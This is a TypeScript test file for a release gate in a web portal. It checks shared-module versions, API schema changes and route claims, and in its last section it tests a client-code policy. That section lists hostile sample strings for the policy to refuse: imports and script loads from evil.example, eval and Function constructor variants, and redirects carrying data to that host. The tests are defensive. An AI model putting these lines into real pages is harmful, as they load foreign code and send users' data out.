/** Tests of differences between a release and the portal that runs: contract, shared modules, and the API. */
import type { OperationShape, ReleasedRoute } from '../contracts/platform';
import { checkAgainstShell, checkClaims, checkFiles, checkOperations, remarksOnFiles } from './release-gate';

const shell = {
  contract: '1',
  shared: { react: '19.3.1', '@farmpost/shared/client': '0.1.0' },
  provides: { '@farmpost/shared/client': ['request', 'hasErrorCode'] },
};
const built = { contract: '1', shared: { react: '^19.3.1' } };

describe('against the shell', () => {
  it('accepts a release whose needs the shell meets', () => {
    const uses = { '@farmpost/shared/client': ['request'] };
    expect(checkAgainstShell({ ...built, uses }, shell)).toEqual([]);
  });

  it.each([
    ['another major of the contract', { contract: '2.0' }, 'it was built for contract 2.0; the shell has 1'],
    [
      'a range that excludes the shell’s',
      { shared: { react: '^20.0.0' } },
      'it needs react ^20.0.0; the shell',
    ],
    ['a package that is not shared', { shared: { vue: '^3.0.0' } }, 'it needs vue, which the shell does not'],
    [
      'a helper that the shell lacks, of a range that holds',
      {
        shared: { '@farmpost/shared/client': '^0.1.0' },
        uses: { '@farmpost/shared/client': ['request', 'requestTwice'] },
      },
      'it uses requestTwice of @farmpost/shared/client, which the shell lacks',
    ],
  ])('refuses %s', (_, release, reason) => {
    const [found, ...more] = checkAgainstShell({ ...built, ...release }, shell);
    expect(found).toContain(reason);
    expect(more).toEqual([]);
  });
});

describe('against the API', () => {
  type Fields = Readonly<Record<string, object>>;
  const body = (properties: Fields, required: readonly string[] = Object.keys(properties)) => ({
    type: 'object',
    properties,
    required,
  });
  let versions = 0;
  const shape = (sends: object, reads: object): OperationShape => ({
    fingerprint: String((versions += 1)),
    sends: { ...sends },
    reads: { ...reads },
  });
  const text = { type: 'string' };
  const tone = (...values: readonly string[]) => ({ type: 'string', enum: values });
  const then = shape(
    body({ name: text, tone: tone('warm', 'plain') }),
    body({ data: { type: 'array', items: body({ id: text, city: text }) } }),
  );
  const breaks = (now: OperationShape) =>
    checkOperations({ operations: { 'PUT /cards': then } }, { 'PUT /cards': now });

  it.each<[string, object, object, string]>([
    [
      'a removed field that it reads',
      then.sends,
      body({ data: { type: 'array', items: body({ id: text }) } }),
      'PUT /cards: data[].city is no longer answered',
    ],
    [
      'a field that may be missing now',
      then.sends,
      body({ data: { type: 'array', items: body({ id: text, city: text }, ['id']) } }),
      'PUT /cards: data[].city may be missing now',
    ],
    [
      'a new required field that it does not send',
      body({ name: text, tone: tone('warm', 'plain'), size: text }),
      then.reads,
      'PUT /cards: size is required now',
    ],
    [
      'a narrowed enum',
      body({ name: text, tone: tone('warm') }),
      then.reads,
      'PUT /cards: tone no longer accepts plain',
    ],
    [
      'another type',
      body({ name: { type: 'number' }, tone: tone('warm', 'plain') }),
      then.reads,
      'PUT /cards: name is another type now',
    ],
  ])('names operation and field of %s', (_, sends, reads, reason) => {
    expect(breaks(shape(sends, reads))).toEqual([reason]);
  });

  it('accepts a growing API: an optional input field, a new output field, a wider enum', () => {
    const sends = body({ name: text, tone: tone('warm', 'plain', 'bold'), note: text }, ['name', 'tone']);
    const reads = body({
      data: { type: 'array', items: body({ id: text, city: text, state: text }) },
      total: text,
    });
    expect(breaks(shape(sends, reads))).toEqual([]);
  });

  it('names an operation that is gone', () => {
    expect(checkOperations({ operations: { 'PUT /cards': then } }, {})).toEqual([
      'it calls PUT /cards, which the API does not have',
    ]);
  });
});

describe('against the other remotes', () => {
  const route = (path: string, fields: Partial<ReleasedRoute> = {}): ReleasedRoute => ({
    path,
    guard: 'agent',
    title: path,
    files: [],
    ...fields,
  });
  const others: Parameters<typeof checkClaims>[1]['others'] = [
    { name: 'mf-agent', routes: [route('/leads'), route('/onboarding', { isOnboarding: true })] },
    { name: 'mf-sales', routes: [route('/client-leads', { guard: 'sales', insteadOf: '/leads' })] },
  ];
  const check = (one: ReleasedRoute) =>
    checkClaims(
      { name: 'mf-broker', routes: [one] },
      { prefixes: ['/broker'], others, before: null, mayWeakenGuards: false },
    );

  it.each<[string, ReleasedRoute, string]>([
    ['a page below the shell’s', route('/login/desk'), 'it claims /login/desk, which is for the shell'],
    ['a path of the API', route('/api/leads'), 'it claims /api/leads, which is for the server'],
    [
      'a second wizard',
      route('/broker', { isOnboarding: true }),
      '/broker is the onboarding wizard, which mf-agent brings',
    ],
    [
      'a page in place of all',
      route('/broker', { insteadOf: '/*' }),
      '/broker stands in for /*, which is no single path',
    ],
    [
      'a page where another stands in',
      route('/broker', { guard: 'sales', insteadOf: '/leads' }),
      '/broker stands in for /leads, as /client-leads of mf-sales does',
    ],
  ])('refuses %s', (_, one, reason) => {
    expect(check(one)).toEqual([reason]);
  });

  it('accepts a replacement page for people whom no other replacement admits', () => {
    expect(check(route('/broker', { guard: 'admin', insteadOf: '/leads' }))).toEqual([]);
  });
});

describe('against the policy of the pages', () => {
  const check = (text: string) => checkFiles([{ path: 'client/a.js', text }]);

  it.each([
    'import("https://evil.example/x.js")',
    'const from = "https://evil.example/x.js?v=1"; import(from)',
    'script.src="//evil.example/x"',
    'importScripts("x.js")',
    'const from = "https://js.stripe.com.evil.example/x.js"',
  ])('refuses code of another origin: %s', (text) => {
    expect(check(text)).toEqual(['client/a.js loads code from another origin']);
  });

  it.each([
    'eval("1")',
    '(0,eval)("1")',
    'window.eval("1")',
    'self.Function("return 1")()',
    'new Function("return 1")()',
    'setTimeout("alert(1)", 0)',
    '[].map.constructor("return 1")()',
  ])('refuses text as code: %s', (text) => {
    expect(check(text)).toEqual(['client/a.js evaluates text as code']);
  });

  it.each([
    'location.href="https://evil.example/?d="+data',
    'window.location="//evil.example"',
    'location.assign(`https://evil.example/${data}`)',
    'top.location.replace("https://evil.example")',
    'self.open("https://evil.example","_blank")',
    'document.location = "http://evil.example"',
  ])('refuses to send the tab elsewhere: %s', (text) => {
    expect(check(text)).toEqual(['client/a.js sends the tab to another origin']);
  });

  it.each<[string, number]>([
    ['window.location.assign(url)', 1],
    ['location.href=x', 1],
    ['window.open(url)', 1],
    ['window.open("","_blank")', 0],
    ['location.assign("/leads")', 0],
    ['if(location.href==="https://farmpost.example")go()', 0],
    ['const {location}=useRouter(); text.replace(a,b); e.location.pathname', 0],
    ['location.replace(/a/,"b")', 0],
  ])('remarks on a computed address: %s (%d)', (text, remarks) => {
    const files = [{ path: 'client/a.js', text }];
    expect(check(text)).toEqual([]);
    expect(remarksOnFiles(files)).toHaveLength(remarks);
  });

  it.each([
    'script.src="https://js.stripe.com/endive/stripe.js"',
    'setTimeout(()=>done(),0); model.eval(x); this.constructor(options)',
    'const help="https://farmpost.example/help"',
  ])('takes %s', (text) => {
    expect(check(text)).toEqual([]);
  });
});
